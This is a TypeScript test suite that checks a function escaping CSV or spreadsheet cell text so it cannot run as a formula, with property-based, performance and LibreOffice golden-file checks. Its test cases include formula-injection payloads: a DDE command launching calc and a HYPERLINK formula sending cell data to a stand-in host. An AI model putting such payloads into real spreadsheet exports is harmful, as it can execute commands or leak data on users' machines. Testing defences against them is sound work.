import { readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { runs, textOf, withoutFormula } from "../../../../src/data/columns/cells/formulas.ts";

describe("texts that a spreadsheet would run", () => {
  test.each([
    ["=1+1", "'=1+1"],
    ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
    ['=HYPERLINK("http://a.example/?"&A1,"see")', '\'=HYPERLINK("http://a.example/?"&A1,"see")'],
    ["+SUM(A1)", "'+SUM(A1)"],
    ["-2+3", "'-2+3"],
    ["-2+cmd|' /C calc'!A0", "'-2+cmd|' /C calc'!A0"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["＝1+1", "'＝1+1"],
    ["-NG", "'-NG"],
    ["\tx", "'\tx"],
    ["\rx", "'\rx"],
    ["\t=1", "'\t'=1"],
    [" =1+1", "' =1+1"],
    ["\u200b=1+1", "'\u200b=1+1"],
    ["\u0001=1+1", "'\u0001=1+1"],
    // Another spreadsheet divides the cells elsewhere.
    ["a;=1+1", "'a;'=1+1"],
    ["a\n=1+1", "'a\n'=1+1"],
    ['a,"=1+1', "'a,\"'=1+1"],
    ["a;-5;+3", "a;-5;+3"],
    // A text in apostrophes is one.
    ["'=x'", "'''=x'"],
    ["=x'", "''=x'"],
    ["'=x", "''=x"],
  ])("%j is %j", (text, safe) => {
    expect(withoutFormula(text)).toBe(safe);
    expect(textOf(safe)).toBe(text);
  });

  test.each([
    ..."-5,+3.2e5,-.5,-,---,+,-5 mm,-1.5%,-12℃,-3 ㎜,+49 123 456,-1'234.5,－5".split(","),
    "-1,5",
    "A=1",
    "x-1",
    "a@b.example",
    "it's",
    "'",
    "''",
    "",
    "良品",
    "x, y",
  ])("%j stays as it is", (text) => {
    expect(withoutFormula(text)).toBe(text);
    expect(textOf(text)).toBe(text);
  });

  test.each(["'good'", "'-'", "'+'", "'=x'", "'00123", "'n Beispiel"])(
    "a file's %j is read as it stands",
    (cell) => expect(textOf(cell)).toBe(cell),
  );

  test("every text comes back, and none begins as a formula does", () => {
    const sign = fc.constantFrom(..."=+-@＝\t\r\n ;,|\"'a1\u0001");
    const text = fc.oneof(
      fc.string({ unit: sign, maxLength: 12 }),
      fc.string({ unit: "grapheme", maxLength: 12 }),
    );
    const check = fc.property(text, (one) => {
      const safe = withoutFormula(one);
      expect(textOf(safe)).toBe(one);
      if (runs(one)) expect(safe).toMatch(/^'/);
    });
    fc.assert(check, { numRuns: 5000, seed: 1 });
  });

  test("a long text takes no longer than its length", () => {
    for (const unit of [" ", "\t", "'", ";", "; ", "=", "-5;", '"'])
      for (const text of [unit.repeat(200_000), `=${unit.repeat(200_000)}`, `-1${unit.repeat(200_000)}x`]) {
        const before = process.cpuUsage().user;
        expect(textOf(withoutFormula(text))).toBe(text);
        expect(process.cpuUsage().user - before).toBeLessThan(2e6);
      }
  });
});

/** What LibreOffice found in files that kiso wrote, and in the same texts as they are: tests/golden/formulas.mjs. */
interface Opened {
  cells: number;
  formulas: string[];
}
const golden: { texts: string[]; found: Record<string, { raw?: Opened; kiso: Opened }> } = JSON.parse(
  readFileSync(join(import.meta.dirname, "../../../golden/formulas.json"), "utf8"),
);

describe("LibreOffice opens what kiso wrote", () => {
  test.each(Object.entries(golden.found))("%s: no cell is a formula", (way, { raw, kiso }) => {
    expect(kiso.formulas).toEqual([]);
    expect(kiso.cells).toBeGreaterThan(25);
    // The same texts as they are would run, or this shows nothing.
    if (way !== "xlsx") expect(raw!.formulas.length).toBeGreaterThan(5);
  });

  test("the texts that were tried are still written so", () => {
    for (const text of golden.texts) if (!/^-\d[.\d]* ?[%m]/.test(text)) expect(runs(text)).toBe(true);
  });
});
